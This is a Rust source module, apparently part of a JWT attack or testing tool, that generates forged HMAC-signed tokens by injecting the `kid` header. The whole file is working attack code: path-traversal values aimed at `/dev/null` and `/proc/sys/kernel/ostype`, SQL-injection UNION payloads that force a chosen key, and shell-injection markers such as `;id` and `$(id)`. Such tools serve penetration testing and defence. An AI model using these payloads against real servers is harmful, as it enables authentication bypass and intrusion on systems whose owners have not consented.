//! The `kid` attacks: a server that reads `kid` as a file path, splices it into SQL, or
//! hands it to a shell verifies with a key the attacker chose. Each token is HMAC-signed
//! with the key the injected `kid` makes the server load.

use serde_json::Value;

use super::{hmac_token, Base};

/// A file every Linux machine has, whose content is known.
pub const OSTYPE: (&str, &[u8]) = ("proc/sys/kernel/ostype", b"Linux\n");

/// The literal the SQL injections select as the key.
pub const SQLI_KEY: &[u8] = b"jot";

fn signed(b: &Base, kid: &str, key: &[u8]) -> String {
    let hash = b.hmac_hash();
    let mut h = b.header_with_alg(hash.hmac_alg().name());
    h.insert("kid".into(), Value::String(kid.into()));
    hmac_token(&h, &b.payload_seg, hash, key)
}

/// The traversal prefix for `depth`: the absolute path at 0, else `depth` times `../`.
fn prefix(depth: usize) -> String {
    if depth == 0 {
        "/".into()
    } else {
        "../".repeat(depth)
    }
}

/// `kid` = `../…/dev/null` (empty key) and `../…/proc/sys/kernel/ostype` ("Linux\n").
pub fn traversal(b: &Base, push: &mut impl FnMut(String, String)) {
    for depth in 0..=10 {
        let kid = format!("{}dev/null", prefix(depth));
        push(format!("kid {kid}, empty secret"), signed(b, &kid, b""));
    }
    for depth in 0..=10 {
        let kid = format!("{}{}", prefix(depth), OSTYPE.0);
        push(
            format!("kid {kid}, secret \"Linux\\n\""),
            signed(b, &kid, OSTYPE.1),
        );
    }
}

/// `kid` whose UNION makes the key lookup return the literal `jot`.
pub fn sqli(b: &Base, push: &mut impl FnMut(String, String)) {
    for kid in [
        "x' UNION SELECT 'jot' -- ",
        "x\" UNION SELECT \"jot\" -- ",
        "0 UNION SELECT 'jot' -- ",
    ] {
        push(format!("kid {kid}"), signed(b, kid, SQLI_KEY));
    }
}

/// `kid` with shell metacharacters; harmless markers, judged blind.
pub fn cmdi(b: &Base, push: &mut impl FnMut(String, String)) {
    let orig = b.header.get("kid").and_then(Value::as_str).unwrap_or("key");
    for marker in ["|id", ";id", "$(id)", "`id`"] {
        let kid = format!("{orig}{marker}");
        push(format!("kid {kid}"), signed(b, &kid, b""));
    }
}
